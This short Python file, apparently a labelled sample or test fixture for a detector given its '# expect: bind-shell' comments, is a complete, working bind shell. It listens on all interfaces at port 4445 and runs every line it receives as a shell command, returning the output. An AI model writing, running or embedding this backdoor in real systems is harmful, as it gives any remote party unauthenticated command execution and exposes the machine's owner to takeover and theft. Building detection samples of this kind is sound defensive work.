import socketserver, subprocess
class H(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            out = subprocess.run(line.decode(), shell=True, capture_output=True)  # expect: bind-shell
            self.wfile.write(out.stdout)
with socketserver.ThreadingTCPServer(("0.0.0.0", 4445), H) as srv:  # expect: bind-shell
    srv.serve_forever()  # expect: bind-shell
